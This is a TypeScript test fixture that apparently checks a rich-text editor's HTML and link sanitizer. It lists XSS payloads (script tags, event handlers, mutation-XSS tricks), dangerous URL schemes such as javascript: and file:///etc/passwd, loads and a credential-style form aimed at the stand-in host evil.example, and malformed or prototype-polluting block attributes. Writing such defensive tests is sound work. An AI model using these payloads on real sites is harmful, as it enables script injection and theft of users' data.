/** What somebody who means harm may paste, send or hand over as a file. `ran()` is called by what runs; every address is evil.example. */

const RUN = 'window.ran&&window.ran()';
const AWAY = 'https://evil.example/x';

const ELEMENTS = [
	`<script>${RUN}</script>`,
	`<script src="${AWAY}.js"></script>`,
	`<img src=x onerror="${RUN}">`,
	`<img src="${AWAY}.png">`,
	`<img srcset="${AWAY}.png 2x">`,
	`<picture><source srcset="${AWAY}.webp"><img></picture>`,
	`<svg onload="${RUN}"><circle r=9></svg>`,
	`<svg><script>${RUN}</script></svg>`,
	`<svg><image href="${AWAY}.png"/></svg>`,
	`<svg><use href="${AWAY}.svg#a"/></svg>`,
	`<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.ran()</script>"></iframe></foreignObject></svg>`,
	`<math><mtext></mtext><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></math>`,
	`<iframe src="${AWAY}"></iframe>`,
	`<iframe srcdoc="<script>parent.ran()</script>"></iframe>`,
	`<object data="${AWAY}"></object>`,
	`<embed src="${AWAY}">`,
	`<video src="${AWAY}" poster="${AWAY}.png" autoplay></video>`,
	`<audio src="${AWAY}" onerror="${RUN}" autoplay></audio>`,
	`<link rel=stylesheet href="${AWAY}.css">`,
	`<link rel=prefetch href="${AWAY}">`,
	`<style>@import '${AWAY}.css'; body{display:none}</style>`,
	`<div style="background:url(${AWAY}.png)">絵</div>`,
	`<p style="position:fixed;inset:0;background:url('${AWAY}')">おおい</p>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=${AWAY}">`,
	`<form action="${AWAY}"><input name=合言葉><button>送る</button></form>`,
	`<input autofocus onfocus="${RUN}">`,
	`<details open ontoggle="${RUN}">開く</details>`,
	`<marquee onstart="${RUN}">走る</marquee>`,
	`<body onload="${RUN}"><p>本文</p></body>`,
	`<table background="${AWAY}.png"><tr><td>表</td></tr></table>`,
	`<table><tr><td colspan=1000000000 rowspan=1000000000>広い</td></tr></table>`,
	`<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
	`<template><script>${RUN}</script></template>`,
	`<custom-element onclick="${RUN}">もの</custom-element>`,
	`<p contenteditable=true onfocus="${RUN}">書ける</p>`,
	`<!--><img src=x onerror="${RUN}">-->`,
	`<p data-pm-slice="1 1 [&quot;script&quot;,null]">切れ端</p>`,
	`<ul data-type="taskList"><li data-type="taskItem" data-checked="true" onclick="${RUN}">やる</li></ul>`
];

const HREFS = [
	`javascript:${RUN}`,
	`JaVaScRiPt:${RUN}`,
	` javascript:${RUN}`,
	`java\nscript:${RUN}`,
	`java\tscript:${RUN}`,
	`\u0001javascript:${RUN}`,
	`javascript&colon;${RUN}`,
	`vbscript:${RUN}`,
	`data:text/html,<script>${RUN}</script>`,
	`data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==`,
	`blob:https://evil.example/1`,
	`file:///etc/passwd`,
	`intent://evil.example#Intent;end`,
	`ws://evil.example`,
	`http://evil.example`,
	`//evil.example`,
	`/g/other`,
	`#invite`,
	`filesystem:https://evil.example/`,
	`about:blank`
];

const escaped = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

export const HOSTILE_LINKS: readonly string[] = HREFS;

/** As HTML: elements alone, within a cell, and addresses in links. */
export const HOSTILE_HTML: readonly string[] = [
	...ELEMENTS,
	...ELEMENTS.map((element) => `<table><tr><td><blockquote>${element}</blockquote></td></tr></table>`),
	...HREFS.map((href) => `<p><a href="${escaped(href)}" target="_self" onclick="${RUN}">ここ</a></p>`)
];

/** As blocks of the shared text that somebody's own program wrote: a name, and what it says of itself. */
export const HOSTILE_BLOCKS: readonly (readonly [name: string, attributes: Readonly<Record<string, unknown>>])[] = [
	...[
		'script',
		'iframe',
		'img',
		'image',
		'svg',
		'style',
		'object',
		'embed',
		'link',
		'base',
		'meta',
		'form',
		'doc',
		'text'
	].map((name) => [name, { src: AWAY, onload: RUN, srcdoc: `<script>${RUN}</script>` }] as const),
	...['__proto__', 'constructor', 'toString', '', 'ｐ', '<img src=x onerror=ran()>'].map((name) => [name, {}] as const),
	...['onclick', 'onerror', 'style', 'src', 'class', 'href', 'constructor', 'checked'].map(
		(name) => ['paragraph', { [name]: RUN }] as const
	),
	['heading', { level: 1e9 }],
	['heading', { level: 'script' }],
	['heading', { level: { toString: 'h2' } }],
	['orderedList', { start: 'x', type: { a: 1 } }],
	['orderedList', { start: 1.5e308 }],
	['codeBlock', { language: { toString: RUN } }],
	['tableCell', { colspan: 1e9 }],
	['tableCell', { rowspan: -1 }],
	['tableCell', { colspan: 0 }],
	['tableHeader', { colwidth: Array.from({ length: 10_000 }, () => 1) }],
	['tableHeader', { colwidth: ['url(https://evil.example)'] }],
	['taskItem', { checked: 'javascript:' }]
];
